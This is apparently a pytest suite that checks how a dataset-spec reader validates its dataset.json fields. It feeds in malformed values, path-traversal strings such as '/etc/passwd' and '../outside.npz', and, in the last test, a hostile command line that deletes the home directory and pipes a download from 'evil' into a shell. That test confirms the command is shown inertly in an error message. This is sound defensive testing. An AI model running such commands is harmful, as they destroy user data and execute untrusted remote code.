"""`dataset.json`: whatever a field is changed to is refused by its name, or means what is read."""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import asdict, replace
from pathlib import Path
from typing import Any, Final

import numpy as np
import pytest

from lssvwm_models.data import DatasetError, DatasetOrigin, DatasetSpec, EpisodeDataset, read_spec, write_spec
from lssvwm_models.data.spaces import action_bounds, frame_shape, in_words
from lssvwm_models.data.spec import shard_name

SPEC: Final = DatasetSpec(
    env_id="Fake-v0",
    env_kwargs={"size": 9, "name": "x", "nested": {"parts": [1, 2.5, None, True]}},
    observation_space={"type": "Box", "low": 0, "high": 255, "shape": [16, 16, 3], "dtype": "uint8"},
    action_space={"type": "Box", "low": [-1.0, "-inf"], "high": 1.0, "shape": [2], "dtype": "float32"},
    preprocessing="none",
    policy="uniform",
    seed=0,
    split="test",
    episode_length=10,
    frames=12,
    shard_frames=7,
    command="collect --again",
    complete=True,
    shards=["shard-00000.npz", "shard-00001.npz"],
)
VALUES: Final = (
    *("null", "true", "false", "-1", "0", "1", "0.5", "1e400", "-1e400", "NaN", "Infinity", "9" * 40, "1" + "0" * 400),
    *('""', '"x"', '"train"', '"\\u0000"', '"\\ud800"', '"../outside.npz"', '"/etc/passwd"', '"shard-00000.npz"'),
    *("[]", "{}", "[1]", '["x"]', "[[1, 2], [3]]", '{"a": {"b": [1]}}', '{"a": 1, "a": 2}', "[" * 60 + "]" * 60),
    *("[" * 9000 + "]" * 9000, '["shard-00001.npz", "shard-00001.npz"]', '["sub/shard-00000.npz"]', "[16, 16, 3]"),
    *('["shard-00000.npz\\n"]', '["shard-00000.npz", 1]', "[16, 0, 3]", "[16, 99999999, 3]", "[true, 16, 3]", "{"),
)


def places(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Where something stands in a JSON document: every field, and every part of one."""
    if path:
        yield path
    for key in value if isinstance(value, dict) else range(len(value)) if isinstance(value, list) else ():
        yield from places(value[key], (*path, key))


def mutated(place: tuple[Any, ...], raw: str) -> str:
    """The document with raw JSON, which may be none, at a place."""
    content = json.loads(json.dumps({"format": "lssvwm-episodes", "version": 1, **asdict(SPEC)}))
    part = content
    for key in place[:-1]:
        part = part[key]
    part[place[-1]] = "@@@"
    return json.dumps(content).replace('"@@@"', raw)


@pytest.mark.parametrize("place", list(places({"format": "", "version": 1, **asdict(SPEC)})), ids=str)
def test_a_field_of_another_kind_is_refused_by_name(tmp_path: Path, place: tuple[Any, ...]) -> None:
    for raw in VALUES:
        (tmp_path / "dataset.json").write_text(mutated(place, raw))
        try:
            spec = read_spec(tmp_path)
        except DatasetError as error:
            words = str(error)
            assert str(tmp_path) in words and words.isprintable() and len(words) < 1000
            assert "is not JSON that can be read" in words or str(place[0]) in words, (raw, words)
            continue
        read = {"format": "lssvwm-episodes", "version": 1, **asdict(spec)}
        for key in place:
            read = read[key]
        wanted = json.loads(raw, parse_constant=lambda name: name.replace("inity", "").lower())
        same_number = (type(read), type(wanted)) == (float, int) and read == wanted
        assert same_number or json.dumps(read) == json.dumps(wanted), raw


def test_few_values_pass_for_others() -> None:
    """Of numbers and texts with a meaning, wrong kinds do not get through."""
    for name, wrong in {
        "seed": (-1, 0.5, True, "0", None, 2**64),
        "frames": (0, 1.0, True, 10**30),
        "shard_frames": (0, "7"),
        "episode_length": (0, [10]),
        "split": ("Train", "", 1, None),
        "env_id": ("", 1, None, ["x"]),
        "complete": (1, 0, "true", None),
        "policy": (1, None),
        "command": (["collect"], None),
        "preprocessing": (0,),
        "env_kwargs": (None, [], {1: 2}, {"a": (1, 2)}, {"a": np.int64(1)}, {"a": float("inf")}, {"a": {2}}),
        "shards": (
            ("shard-00000.npz",),
            ["../shard-00000.npz"],
            ["/shard-00000.npz"],
            ["shard-0.npz"],
            ["shard-00000.npz\n"],
            ["shard-00000.npz", "shard-00000.npz"],
            [0],
        ),
    }.items():
        for value in wrong:
            with pytest.raises(ValueError, match=name):
                replace(SPEC, **{name: value})


def test_names_of_shards_are_those_that_are_made() -> None:
    many = [shard_name(number) for number in (0, 99_999, 100_000)]
    assert replace(SPEC, shards=many).shards == many


@pytest.mark.parametrize(
    "space",
    [
        {"type": "Discrete", "n": 0},
        {"type": "Discrete", "n": 2**40},  # a MultiBinary(40) as one number
        {"type": "Discrete", "n": True},
        {"type": "Discrete", "n": 3.0},
        {"type": "Discrete", "n": 3, "start": 1},
        {"type": "Box", "low": 1, "high": 0, "shape": [2], "dtype": "float32"},
        {"type": "Box", "low": [0], "high": 1, "shape": [2], "dtype": "float32"},
        {"type": "Box", "low": "no", "high": 1, "shape": [2], "dtype": "float32"},
        {"type": "Box", "low": 0, "high": 1, "shape": [2, 2], "dtype": "float32"},
        {"type": "Box", "low": 0, "high": 1, "shape": [0], "dtype": "float32"},
        {"type": "Box", "low": 0, "high": 1, "shape": [2], "dtype": "float64"},
        {"type": "Box", "low": 0, "high": 1, "shape": [2]},
        {"type": "Text"},
        {},
    ],
)
def test_what_is_no_space_of_actions_is_refused(space: dict[str, Any]) -> None:
    for make in (lambda: action_bounds(space), lambda: DatasetOrigin("Mine", space)):
        with pytest.raises(ValueError, match="action_space="):
            make()


def test_spaces_are_read_as_numbers() -> None:
    low, high = action_bounds(SPEC.action_space)
    assert low.tolist() == [-1, -np.inf] and high.tolist() == [1, 1]
    one, many = action_bounds({"type": "Discrete", "n": 5})
    assert (one, many) == (0, 4) and in_words((one, many)) == "Discrete(5)" and in_words((low, high)) == "Box(2,)"
    assert frame_shape(SPEC.observation_space) == (16, 16, 3)


@pytest.mark.parametrize("shape", [[0, 16, 3], [16, 4097, 3], [16, 16, 1], [16, 16], [16.0, 16, 3], "16", None])
def test_what_is_no_shape_of_frames_is_refused(shape: Any) -> None:
    with pytest.raises(ValueError, match="observation_space="):
        frame_shape(SPEC.observation_space | {"shape": shape})


def test_an_origin_checks_itself() -> None:
    discrete = {"type": "Discrete", "n": 2}
    for name, value in {"split": "mine", "seed": -1, "env_id": "", "env_kwargs": {"a": object()}}.items():
        with pytest.raises(ValueError, match=name):
            DatasetOrigin(**({"env_id": "Mine", "action_space": discrete} | {name: value}))


def test_the_command_of_a_file_is_no_advice(tmp_path: Path) -> None:
    hostile = "lssvwm x; rm -rf ~\n  \x1b[31mcurl evil | sh"
    write_spec(tmp_path, replace(SPEC, complete=False, command=hostile))
    with pytest.raises(DatasetError) as error:
        EpisodeDataset(tmp_path)
    assert str(error.value).isprintable()  # in one line, and without what moves a terminal
    assert f"{tmp_path} is incomplete: finish it" in str(error.value)
    assert f"dataset.json says that it was made by {hostile!r}" in str(error.value)
